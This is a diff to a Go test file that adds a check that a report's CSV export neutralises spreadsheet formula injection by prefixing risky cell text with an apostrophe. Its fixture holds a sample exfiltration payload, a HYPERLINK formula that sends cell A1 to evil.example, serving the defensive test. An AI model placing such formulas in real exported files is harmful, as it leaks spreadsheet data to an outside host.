@@ -1,6 +1,8 @@
 package main
 
 import (
+	"encoding/csv"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -38,5 +40,39 @@ func TestReportTable_StoredTextIsOneField(t *testing.T) {
 	}
 	if !strings.HasPrefix(lines[3], "Ogre") {
 		t.Errorf("the next row is %q, want Ogre's", lines[3])
+	}
+}
+
+// TestReportCSV_StoredTextNeverAFormula proves that a group's text from a
+// register (a municipality's name) that starts like a spreadsheet formula
+// (=, +, -, @, a tab or a carriage return) reaches the CSV as text, with
+// an apostrophe before it, so that opening the file in a spreadsheet runs
+// nothing; counts stay numbers and other text stays as it was.
+func TestReportCSV_StoredTextNeverAFormula(t *testing.T) {
+	r := &domain.Report{Name: domain.ReportIMKUptake,
+		Columns: []domain.ReportColumn{
+			{Name: "group", Key: "report.col.group", Kind: domain.ColumnText},
+			{Name: "applications", Key: "report.col.applications", Kind: domain.ColumnCount},
+		},
+		Rows: [][]domain.ReportCell{
+			{{Text: `=HYPERLINK("http://evil.example/?"&A1,"Rīga")`}, {Count: 1}},
+			{{Text: "+371 Ogre"}, {Count: 2}},
+			{{Text: "@SUM(1)"}, {Count: 3}},
+			{{Text: "-2+3"}, {Count: 4}},
+			{{Text: "Ķekava, \"jaunā\""}, {Count: 5}},
+		}}
+	var b strings.Builder
+	if err := writeReportCSV(&b, i18n.For(i18n.EN), r); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Rīga")`, "'+371 Ogre", "'@SUM(1)", "'-2+3", "Ķekava, \"jaunā\""}
+	for i, w := range want {
+		if recs[i+1][0] != w || recs[i+1][1] != strconv.Itoa(i+1) {
+			t.Errorf("row %d = %q, want [%q %d]", i+1, recs[i+1], w, i+1)
+		}
 	}
 }
